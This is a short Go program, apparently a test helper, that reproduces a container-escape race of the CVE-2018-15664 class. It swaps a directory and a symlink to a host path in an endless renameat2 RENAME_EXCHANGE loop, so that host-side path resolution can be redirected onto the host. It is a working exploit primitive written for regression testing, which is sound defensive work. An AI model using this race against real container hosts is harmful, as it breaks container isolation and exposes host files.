// Command swapper runs inside a test container (CVE-2018-15664 class):
// it makes /w a directory holding "secret", /wlink a symlink to the host
// directory named by its argument, creates /ready, and then exchanges /w
// and /wlink with renameat2(RENAME_EXCHANGE) forever, so that a host
// process resolving /w/... by name in the container's rootfs sometimes
// goes through the symlink to the host.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: swapper HOSTDIR")
		os.Exit(2)
	}
	if err := os.MkdirAll("/w", 0o755); err != nil {
		panic(err)
	}
	if err := os.WriteFile("/w/secret", []byte("inside\n"), 0o644); err != nil {
		panic(err)
	}
	if err := os.Symlink(os.Args[1], "/wlink"); err != nil {
		panic(err)
	}
	if err := os.WriteFile("/ready", nil, 0o644); err != nil {
		panic(err)
	}
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, "/w", unix.AT_FDCWD, "/wlink", unix.RENAME_EXCHANGE); err != nil {
			panic(err)
		}
	}
}
